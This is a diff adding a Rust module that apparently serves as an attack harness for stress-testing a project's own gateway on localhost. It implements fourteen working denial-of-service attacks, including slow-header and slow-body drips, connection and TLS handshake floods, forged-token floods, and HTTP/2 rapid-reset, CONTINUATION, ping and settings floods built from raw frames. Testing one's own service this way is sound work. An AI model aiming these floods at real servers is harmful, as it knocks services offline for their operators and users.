@@ -1,0 +1,191 @@
+//! The attacks: each is what a connection says first, and what it goes on saying.
+
+use std::io::{ErrorKind, Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread;
+use std::time::Duration;
+
+use rustls::ClientConnection;
+use rustls::pki_types::ServerName;
+
+use crate::Outcome;
+use crate::gateway::Gateway;
+
+pub const NAMES: [&str; 14] = [
+    "slow-heads",
+    "slow-bodies",
+    "no-reading",
+    "connections",
+    "handshakes",
+    "large-heads",
+    "forged",
+    "ping",
+    "settings",
+    "priority",
+    "resets",
+    "continuation",
+    "empty-data",
+    "streams",
+];
+
+pub struct Attack {
+    address: SocketAddr,
+    connections: usize,
+    opening: Vec<u8>,
+    then: Then,
+}
+
+enum Then {
+    /// A byte of this every 100 ms.
+    Drip(u8),
+    /// This, by its number, as fast as it is taken.
+    Flood(Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>),
+    /// As `Flood`, and nothing of the answers is read.
+    Deaf(Vec<u8>),
+    /// Nothing: the next connection is opened instead.
+    Leave,
+}
+
+const GET: &str = "GET /public/ HTTP/1.1\r\nHost: localhost\r\n";
+
+impl Attack {
+    pub fn named(name: &str, gateway: &Gateway, token: &str) -> Outcome<Attack> {
+        let address = gateway.target(false).address;
+        let attack = |connections, opening: &[u8], then| Attack { address, connections, opening: opening.into(), then };
+        let flood = |frame: Vec<u8>| Then::Flood(Box::new(move |_| frame.repeat(100)));
+        let of_stream = |say: fn(u32) -> Vec<u8>| {
+            Then::Flood(Box::new(move |turn| (0..50).flat_map(|one| say(2 * (50 * turn + one) + 1)).collect()))
+        };
+        let hello = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, &[])].concat();
+        let after_hello = |more: Vec<u8>| [hello.clone(), more].concat();
+        let block = header_block();
+        Ok(match name {
+            "slow-heads" => attack(300, format!("{GET}X: ").as_bytes(), Then::Drip(b'x')),
+            "slow-bodies" => {
+                let post = "POST /public/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n";
+                attack(300, post.as_bytes(), Then::Drip(b'x'))
+            }
+            "no-reading" => attack(100, &[], Then::Deaf(format!("{GET}\r\n").repeat(100).into_bytes())),
+            "connections" => attack(1, &[], Then::Leave),
+            "handshakes" => {
+                let target = gateway.target(true);
+                let config = target.tls.ok_or("no TLS")?;
+                let mut client = ClientConnection::new(config, ServerName::try_from("localhost")?)?;
+                let mut hello = Vec::new();
+                client.write_tls(&mut hello)?;
+                Attack { address: target.address, ..attack(1, &hello, Then::Leave) }
+            }
+            "large-heads" => {
+                let head = format!("{GET}X: {}\r\n\r\n", "x".repeat(15_000)).into_bytes();
+                attack(4, &[], Then::Flood(Box::new(move |_| head.clone())))
+            }
+            "forged" => {
+                let unsigned = token.rsplit_once('.').ok_or("no token")?.0.to_owned();
+                let request = move |turn| {
+                    let signature = format!("{turn:08}").repeat(11)[..86].to_owned();
+                    format!("GET / HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {unsigned}.{signature}\r\n\r\n")
+                };
+                attack(4, &[], Then::Flood(Box::new(move |turn| request(turn).into_bytes())))
+            }
+            "ping" => attack(4, &hello, flood(frame(6, 0, 0, &[7; 8]))),
+            "settings" => attack(4, &hello, flood(frame(4, 0, 0, &[]))),
+            "priority" => attack(4, &hello, flood(frame(2, 0, 1, &[0, 0, 0, 0, 1]))),
+            "resets" => {
+                let reset =
+                    |stream| [frame(1, 5, stream, &header_block()), frame(3, 0, stream, &[0, 0, 0, 8])].concat();
+                attack(4, &hello, of_stream(reset))
+            }
+            "continuation" => attack(4, &after_hello(frame(1, 1, 1, &block)), flood(frame(9, 0, 1, &[]))),
+            "empty-data" => attack(4, &after_hello(frame(1, 4, 1, &block)), flood(frame(0, 0, 1, &[]))),
+            "streams" => attack(4, &hello, of_stream(|stream| frame(1, 5, stream, &header_block()))),
+            other => return Err(format!("there is no attack `{other}`").into()),
+        })
+    }
+
+    /// Until it is over. Counts pieces that were sent, and connections where they are all there is.
+    pub fn run(&self, over: &AtomicBool) -> u64 {
+        let mut attackers: Vec<_> = (0..self.connections).map(|_| Attacker::default()).collect();
+        let mut attacks = 0;
+        while !over.load(Ordering::Relaxed) {
+            let said: u64 = attackers.iter_mut().map(|attacker| attacker.turn(self)).sum();
+            attacks += said;
+            match self.then {
+                Then::Drip(_) => thread::sleep(Duration::from_millis(100)),
+                _ if said == 0 => thread::sleep(Duration::from_millis(1)),
+                _ => {}
+            }
+        }
+        attacks
+    }
+}
+
+#[derive(Default)]
+struct Attacker {
+    /// `None` before the first turn, and after the gateway has closed.
+    stream: Option<TcpStream>,
+    unsent: Vec<u8>,
+    turn: u32,
+}
+
+impl Attacker {
+    /// Says what is due, and answers how many pieces that were.
+    fn turn(&mut self, attack: &Attack) -> u64 {
+        let Some(stream) = &mut self.stream else {
+            self.stream = connect(attack.address);
+            (self.unsent, self.turn) = (attack.opening.clone(), 0);
+            return 0;
+        };
+        if !matches!(attack.then, Then::Deaf(_)) && !listen(stream) {
+            self.stream = None;
+            return 0;
+        }
+        if self.unsent.is_empty() {
+            match &attack.then {
+                Then::Drip(byte) => self.unsent.push(*byte),
+                Then::Flood(piece) => self.unsent = piece(self.turn),
+                Then::Deaf(piece) => self.unsent = piece.clone(),
+                Then::Leave => {}
+            }
+            self.turn += 1;
+        }
+        match stream.write(&self.unsent) {
+            Ok(written) => {
+                self.unsent.drain(..written);
+            }
+            Err(error) if error.kind() == ErrorKind::WouldBlock => return 0,
+            Err(_) => self.stream = None,
+        }
+        if matches!(attack.then, Then::Leave) {
+            self.stream = None;
+        }
+        u64::from(self.unsent.is_empty())
+    }
+}
+
+fn connect(address: SocketAddr) -> Option<TcpStream> {
+    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(1)).ok()?;
+    stream.set_nonblocking(true).ok()?;
+    Some(stream)
+}
+
+/// Throws away what comes. `false` once the other side has closed.
+fn listen(stream: &mut TcpStream) -> bool {
+    let mut space = [0; 16 * 1024];
+    match stream.read(&mut space) {
+        Ok(read) => read > 0,
+        Err(error) => error.kind() == ErrorKind::WouldBlock,
+    }
+}
+
+/// RFC 9113 section 4.1
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
+    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// `GET http://a/public/`, without compression (RFC 7541 section 6.2.2).
+fn header_block() -> Vec<u8> {
+    let indexed = |index: u8, value: &str| [&[index, value.len() as u8], value.as_bytes()].concat();
+    [indexed(2, "GET"), indexed(6, "http"), indexed(1, "a"), indexed(4, "/public/")].concat()
+}
